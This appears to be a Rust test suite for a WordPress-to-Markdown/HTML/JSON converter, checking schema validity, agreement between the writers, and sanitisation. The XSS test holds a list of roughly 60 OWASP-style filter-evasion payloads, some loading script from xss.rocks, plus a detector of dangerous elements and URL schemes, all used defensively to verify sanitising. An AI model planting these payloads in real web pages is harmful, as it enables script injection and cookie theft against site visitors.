//! JSON, JSON Lines and HTML output: the schema holds for every fixture, the HTML writer agrees
//! with the Markdown writer, and no XSS vector survives any output.

mod common;

use assert_cmd::Command;
use std::path::Path;
use wpconvert::model::Document;
use wpconvert::normalize::{Settings, normalize};
use wpconvert::write::{html, json, markdown};

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn schema() -> jsonschema::Validator {
    let text = std::fs::read_to_string(root().join("schema/wpconvert.schema.json")).unwrap();
    jsonschema::validator_for(&serde_json::from_str(&text).unwrap()).expect("a valid schema")
}

/// Every fixture as a document: HTML pages and fragments, the seed article, export items.
fn all_documents() -> Vec<(String, Document)> {
    let mut documents = common::export_documents();
    let mut folders = vec![root().join("fixtures/html")];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else if path.extension().is_some_and(|e| e == "html") {
                let converted =
                    wpconvert::read(&std::fs::read(&path).unwrap(), wpconvert::InputFormat::Html);
                documents.push((path.display().to_string(), converted.document));
            }
        }
    }
    let seed = std::fs::read(root().join("fixtures/seed-article.txt")).unwrap();
    documents.push((
        "seed".into(),
        wpconvert::read(&seed, wpconvert::InputFormat::Text).document,
    ));
    documents
}

#[test]
fn json_of_every_fixture_validates_against_the_schema() {
    let validator = schema();
    let options = json::Options {
        markdown: true,
        html: true,
    };
    let mut checked = 0;
    for (name, mut document) in all_documents() {
        let report = normalize(
            &mut document,
            &Settings {
                unsafe_fixes: true,
                ..Settings::default()
            },
        );
        let value = json::value(
            &document,
            &report.changes,
            &["a warning".to_string()],
            &options,
        );
        if let Some(error) = validator.iter_errors(&value).next() {
            panic!("{name}: {error} at {}", error.instance_path());
        }
        assert_eq!(value["schema_version"], json::SCHEMA_VERSION);
        checked += 1;
    }
    assert!(checked > 340, "{checked}");
    // The schema is not vacuous: a wrong shape fails.
    let bad = serde_json::json!({"schema_version": 1, "meta": {}, "content": [{"type": "paragraph"}], "changes": [], "warnings": []});
    assert!(!validator.is_valid(&bad));
}

#[test]
fn jsonl_streams_one_object_per_written_item_in_export_order() {
    let export = root().join("fixtures/wxr/theme-test-data/themeunittestdata.wordpress.xml");
    let output = Command::cargo_bin("wpconvert")
        .unwrap()
        .arg("convert")
        .arg(&export)
        .args(["--to", "jsonl", "-q"])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let validator = schema();
    let ids: Vec<u64> = String::from_utf8(output.stdout)
        .unwrap()
        .lines()
        .map(|line| {
            let value: serde_json::Value =
                serde_json::from_str(line).expect("one JSON object per line");
            assert!(validator.is_valid(&value), "{line:.200}");
            value["meta"]["id"].as_u64().unwrap()
        })
        .collect();
    assert_eq!(ids.len(), 76);
    // Export order: the order of the items in the file.
    let text = std::fs::read_to_string(&export).unwrap();
    let position = |id: u64| {
        text.find(&format!("<wp:post_id>{id}</wp:post_id>"))
            .unwrap()
    };
    assert!(
        ids.windows(2).all(|w| position(w[0]) < position(w[1])),
        "not in export order"
    );
}

/// Block tags in document order, with what each writer spells differently made equal:
/// figures and captions are paragraphs, a quote's footer is a paragraph, emphasis is ignored.
fn outline(html: &str) -> (Vec<String>, String) {
    let fragment = scraper::Html::parse_fragment(html);
    let mut tags = Vec::new();
    for node in fragment.root_element().descendants() {
        if let Some(element) = node.value().as_element() {
            let name = match element.name() {
                "figure" => continue,
                "figcaption" | "footer" => "p",
                name @ ("p" | "h1" | "h2" | "h3" | "h4" | "h5" | "h6" | "ul" | "ol" | "li"
                | "blockquote" | "pre" | "table" | "tr" | "hr") => name,
                _ => continue,
            };
            tags.push(name.to_string());
        }
    }
    (tags, common::squash(&common::html_text(html)))
}

#[test]
fn the_html_writer_agrees_with_the_markdown_writer() {
    let mut options = comrak::Options::default();
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.render.r#unsafe = true;
    // A table's caption is its first child in HTML, a paragraph after it in Markdown.
    let captions =
        regex::Regex::new(r"(?s)<table>\n<caption>(.*?)</caption>\n(.*?)</table>").unwrap();
    for (name, document) in all_documents() {
        let direct = captions
            .replace_all(
                &html::write(&document, &html::Options::default()),
                "<table>\n$2</table>\n<p>$1</p>",
            )
            .into_owned();
        let markdown = markdown::write(
            &document,
            &markdown::Options {
                front_matter: false,
                ..Default::default()
            },
        )
        .text;
        let via_markdown = comrak::markdown_to_html(&markdown, &options);
        let (tags_direct, text_direct) = outline(&direct);
        let (tags_markdown, text_markdown) = outline(&via_markdown);
        // Markdown writes an image and its caption as two paragraphs where HTML has one figure
        // with a figcaption: compare without the paragraphs figures add.
        let strip = |tags: &[String]| {
            tags.iter()
                .filter(|t| *t != "p")
                .cloned()
                .collect::<Vec<_>>()
        };
        assert_eq!(
            strip(&tags_direct),
            strip(&tags_markdown),
            "{name}: block structure"
        );
        // Text as a browser shows it: ASCII whitespace collapsed, no-break spaces kept.
        assert_eq!(text_direct, text_markdown, "{name}: text");
    }
}

/// Filter-evasion vectors in the spirit of OWASP's cheat sheet: script tags in their disguises,
/// event handlers, `javascript:`/`vbscript:`/`data:` URLs (encoded, split, mixed case), SVG and
/// MathML, styles, frames and embeds.
const VECTORS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<a href=\"javascript&colon;alert(1)\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
    "<a href=\"vbscript:msgbox(1)\">click</a>",
    "<a href=\"  JAVASCRIPT:alert(1)\">click</a>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" AllowScriptAccess=\"always\"></EMBED>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<details open ontoggle=alert(1)>",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<a href=\"#\" style=\"position:fixed;top:0\">overlay</a>",
    // Entity-encoded twice: harmless as written, dangerous if any step decodes once too often
    // (an HTML reader decodes once, and a Markdown renderer decodes link targets again).
    "<a href=\"&amp;#106;avascript:alert(1)\">twice</a>",
    "<a href=\"javascript&amp;colon;alert(1)\">twice</a>",
    "<a href=\"&amp;amp;#x6A;avascript:alert(1)\">three times</a>",
    "<img src=\"&amp;#x6A;avascript:alert(1)\" alt=\"twice\">",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&lt;img src=x onerror=alert(1)&gt;",
];
/// Whether HTML, as a browser parses it (html5ever, through scraper: entities decoded the
/// HTML way, not by the code under test), still carries a way to run code: a dangerous
/// element, an event handler, style or form-action attribute, or a URL attribute whose scheme
/// (blanks and controls removed, as browsers do) can run code. Text that merely shows such
/// words (`&lt;script&gt;`) is harmless.
fn dangerous(html: &str) -> Option<String> {
    const ELEMENTS: &[&str] = &[
        "script", "style", "iframe", "object", "embed", "meta", "link", "frame", "frameset",
        "base", "form", "svg", "math", "input", "button",
    ];
    const URL_ATTRIBUTES: &[&str] = &[
        "href",
        "src",
        "action",
        "background",
        "dynsrc",
        "poster",
        "data",
        "srcset",
    ];
    let fragment = scraper::Html::parse_fragment(html);
    for node in fragment.tree.nodes() {
        let Some(element) = node.value().as_element() else {
            continue;
        };
        let name = element.name().to_ascii_lowercase();
        // A frame is only dangerous outside the embed allow-list.
        let allowed_frame = name == "iframe"
            && element.attr("src").is_some_and(|src| {
                src.starts_with("https://www.youtube.com/")
                    || src.starts_with("https://player.vimeo.com/")
            });
        if ELEMENTS.contains(&name.as_str()) && !allowed_frame {
            return Some(format!("a <{name}> element"));
        }
        for (attribute, value) in element.attrs() {
            let attribute = attribute.to_ascii_lowercase();
            if attribute.starts_with("on") || attribute == "style" || attribute == "formaction" {
                return Some(format!("a {attribute} attribute on <{name}>"));
            }
            if URL_ATTRIBUTES.contains(&attribute.as_str()) && runs_code(value) {
                return Some(format!("{attribute}={value:?} on <{name}>"));
            }
        }
    }
    None
}

/// Whether a URL, as a browser reads it, has a scheme that runs code.
fn runs_code(url: &str) -> bool {
    let compact: String = url
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:"]
        .iter()
        .any(|scheme| compact.starts_with(scheme))
}

/// What a consumer of the JSON `content` tree could render from it: every raw HTML node's
/// markup, and every link, image and embed target put in an attribute (where a browser
/// decodes its entities once more).
fn renderable_parts_of_json(value: &serde_json::Value, out: &mut Vec<String>) {
    match value {
        serde_json::Value::Object(object) => {
            for (key, field) in object {
                match (key.as_str(), field) {
                    ("html", serde_json::Value::String(html))
                        if object.get("type").and_then(|t| t.as_str()) == Some("raw_html") =>
                    {
                        out.push(html.clone())
                    }
                    ("url" | "src" | "link", serde_json::Value::String(url)) => {
                        out.push(format!("<a href=\"{}\">x</a>", url.replace('"', "&quot;")))
                    }
                    _ => renderable_parts_of_json(field, out),
                }
            }
        }
        serde_json::Value::Array(items) => {
            items.iter().for_each(|i| renderable_parts_of_json(i, out))
        }
        _ => {}
    }
}

#[test]
fn no_xss_vector_survives_any_output() {
    let markdown_options = markdown::Options {
        front_matter: false,
        ..Default::default()
    };
    for vector in VECTORS {
        // As HTML input (a fragment and inside a page), and as a WordPress export item with
        // the vector in a wp:html block and in classic content.
        let inputs = [
            wpconvert::read(vector.as_bytes(), wpconvert::InputFormat::Html).document,
            wpconvert::read(
                format!("<html><body><article><p>Text</p>{vector}</article></body></html>")
                    .as_bytes(),
                wpconvert::InputFormat::Html,
            )
            .document,
            {
                let item = wpconvert::read::wxr::Item {
                    post_id: "1".into(),
                    post_type: "post".into(),
                    content: format!(
                        "<!-- wp:html -->\n{vector}\n<!-- /wp:html -->\n<!-- wp:paragraph --><p>{vector}</p><!-- /wp:paragraph -->"
                    ),
                    ..Default::default()
                };
                let index = Default::default();
                let authors = Default::default();
                let site = Default::default();
                let options = Default::default();
                let context = wpconvert::read::wordpress::Context {
                    site: &site,
                    authors: &authors,
                    index: &index,
                    options: &options,
                };
                wpconvert::read::wordpress::convert_item(&item, &context).0
            },
            wpconvert::read(vector.as_bytes(), wpconvert::InputFormat::Text).document,
        ];
        for document in inputs {
            let json = json::value(
                &document,
                &[],
                &[],
                &json::Options {
                    markdown: true,
                    html: true,
                },
            );
            let mut outputs = vec![
                ("html", html::write(&document, &html::Options::default())),
                (
                    "markdown",
                    markdown::write(&document, &markdown_options).text,
                ),
                ("json html", json["html"].as_str().unwrap().to_string()),
                (
                    "json markdown",
                    json["markdown"].as_str().unwrap().to_string(),
                ),
            ];
            let mut parts = Vec::new();
            renderable_parts_of_json(&json["content"], &mut parts);
            outputs.extend(parts.into_iter().map(|part| ("json content", part)));
            for (format, output) in outputs {
                // Markdown escapes text; what a renderer would turn into HTML is what counts.
                let rendered = if format.ends_with("markdown") {
                    let mut options = comrak::Options::default();
                    options.render.r#unsafe = true;
                    comrak::markdown_to_html(&output, &options)
                } else {
                    output.clone()
                };
                if let Some(what) = dangerous(&rendered) {
                    panic!("{format} output keeps {what} from {vector:?}:\n{output}");
                }
            }
        }
    }
}

#[test]
fn several_formats_from_one_read_and_shell_support() {
    let dir = tempfile::tempdir().unwrap();
    let page = root().join("fixtures/html/constructs/kitchen-sink.html");
    Command::cargo_bin("wpconvert")
        .unwrap()
        .arg("convert")
        .arg(&page)
        .args([
            "--to",
            "markdown,json,html",
            "--standalone",
            "--json-include",
            "markdown",
            "-o",
        ])
        .arg(dir.path())
        .assert()
        .success();
    let md = std::fs::read_to_string(dir.path().join("kitchen-sink.md")).unwrap();
    let json: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(dir.path().join("kitchen-sink.json")).unwrap(),
    )
    .unwrap();
    let html = std::fs::read_to_string(dir.path().join("kitchen-sink.html")).unwrap();
    assert_eq!(
        json["markdown"].as_str().unwrap(),
        md,
        "the same Markdown in both"
    );
    assert!(
        html.starts_with("<!DOCTYPE html>")
            && html.contains("<meta charset=\"utf-8\">")
            && html.contains("<figcaption>")
    );
    let body = &html[html.find("<body>").unwrap()..];
    assert!(
        !body.contains("style=") && !body.contains("class=\"wp-"),
        "no WordPress classes or styles"
    );

    let completions = Command::cargo_bin("wpconvert")
        .unwrap()
        .args(["completions", "bash"])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&completions.stdout).contains("_wpconvert()"));
    let man = Command::cargo_bin("wpconvert")
        .unwrap()
        .arg("man")
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&man.stdout).contains(".TH wpconvert 1"));
    // Colour: never off a terminal unless asked for.
    let plain = Command::cargo_bin("wpconvert")
        .unwrap()
        .args(["convert", "--frobnicate"])
        .output()
        .unwrap();
    assert!(!String::from_utf8_lossy(&plain.stderr).contains('\u{1b}'));
    let forced = Command::cargo_bin("wpconvert")
        .unwrap()
        .args(["--color", "always", "convert", "--frobnicate"])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&forced.stderr).contains('\u{1b}'));
}
